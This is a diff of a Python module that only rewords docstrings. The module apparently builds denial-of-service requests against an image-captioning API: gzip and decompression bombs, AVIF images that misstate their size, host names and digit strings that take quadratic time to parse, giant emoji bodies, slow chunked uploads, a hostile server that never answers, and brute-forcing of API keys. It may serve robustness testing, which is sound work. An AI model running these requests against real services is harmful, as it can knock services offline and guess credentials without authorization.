@@ -1,4 +1,4 @@
-"""Requests whose work costs more than it seems to."""
+"""Requests that cost more than they seem to."""
 
 from __future__ import annotations
 
@@ -23,7 +23,7 @@ _SIDE = 4990  # of an image of 25 megapixels, the most that a service decodes by
 
 @asynccontextmanager
 async def hostile_host() -> AsyncIterator[str]:
-    """Run a web server that never answers, sends bombs, and redirects to names that take long to tidy; yield its address."""
+    """Run a web server that never answers, sends bombs, and redirects to names that take long to normalise; yield its address."""
     bomb = gzip.compress(bytes(32 * _MIB))
     async with answering(
         {
@@ -36,7 +36,7 @@ async def hostile_host() -> AsyncIterator[str]:
 
 
 async def slow_host_names(target: Target, number: int) -> int:
-    """Let names be normalised, which takes time by the square of their length."""
+    """Send host names whose normalisation takes time quadratic in their length."""
     return await score(target, [f"http://{_slow_name(80_000)}/{number}", f"{target.host}/redirect?{number}"])
 
 
@@ -76,7 +76,7 @@ def long_texts(worst: str) -> Iterable[tuple[str, dict[str, Any]]]:
 
 
 async def large_pictures(target: Target, number: int) -> int:
-    """Let images of a few bytes be decoded, no two alike, to 25 megapixels each."""
+    """Send different images of a few bytes that decode to 25 megapixels each."""
     pictures = (webp(_SIDE - (number * target.size + n) % 2000) for n in range(target.size))
     return await score(target, pictures, f"a {number}")
 
@@ -88,7 +88,7 @@ async def one_large_picture(target: Target, number: int) -> int:
 
 
 async def old_batch(target: Target, number: int) -> int:
-    """Ask for 24 requests' work in one."""
+    """Send the work of 24 requests in one."""
     pictures = [b64encode(webp(_SIDE - n)).decode() for n in range(target.size)]
     asked = [
         {"image_input": pictures[n % len(pictures)], "text_prompt": f"a {number} {n}", "model_config_name": name}
@@ -98,7 +98,7 @@ async def old_batch(target: Target, number: int) -> int:
 
 
 def _names() -> Iterable[str | None]:
-    """Return names of models, of which every third one does not exist."""
+    """Return names of models; every third one does not exist."""
     return (f"model {number}" if number % 3 == 0 else None for number in count(1))
 
 
@@ -107,19 +107,19 @@ async def silent_hosts(target: Target, number: int) -> int:
 
 
 async def lying_avifs(target: Target, number: int) -> int:
-    """Let images be decoded that say 64 x 64 and are coded as 4 megapixels."""
+    """Send images that claim to be 64 x 64 and are coded as 4 megapixels."""
     return await score(target, [lying_avif()] * target.size, f"a {number}")
 
 
 async def emoji(target: Target, number: int) -> int:
-    """Send half of the longest body in characters of which each takes Python four times its share of memory."""
+    """Send half of the longest body, in characters that need four times as much memory in Python."""
     caption = "\N{GRINNING FACE}" * (target.size * _MIB // 16)
     body = f'{{"pairs":[{{"image_url":"{target.host}/silent","caption":"a{caption}"}}]}}'
     return await send(target, post(body.encode(), PATH, target.key))
 
 
 async def gzip_bombs(target: Target, number: int) -> int:
-    """Send a body, and let images be fetched, of which each expands to a thousand times its length."""
+    """Send a body, and references to images, that each expand to a thousand times their length."""
     body = _bomb(target.size * _MIB // 4)
     start = head(
         "POST", PATH, target.key, Content_Type="application/json", Content_Encoding="gzip", Content_Length=len(body)
@@ -134,20 +134,20 @@ def _bomb(size: int) -> bytes:
 
 
 async def long_numbers(target: Target, number: int) -> int:
-    """Let numbers be read, which takes time by the square of their digits."""
+    """Send numbers whose parsing takes time quadratic in their length."""
     numbers = ",".join(["9" * 4000] * (64 * target.size))
     body = f'{{"pairs":[{{"image_url":"data:,","caption":"a","id":[{numbers}]}}]}}'
     return await send(target, post(body.encode(), PATH, target.key))
 
 
 async def tiny_pieces(target: Target, number: int) -> int:
-    """Send a body in chunks of a byte."""
+    """Send a body in chunks of one byte."""
     start = head("POST", PATH, target.key, Content_Type="application/json", Transfer_Encoding="chunked")
     return await send(target, start + b"1\r\n \r\n" * (1000 * target.size) + b"0\r\n\r\n")
 
 
 async def wrong_keys(target: Target, number: int) -> int:
-    """Try keys by the hundred."""
+    """Try hundreds of keys."""
     status, connection = 0, await connect(target.address, target.source)
     for n in range(16 * target.size):
         if not connection.usable:
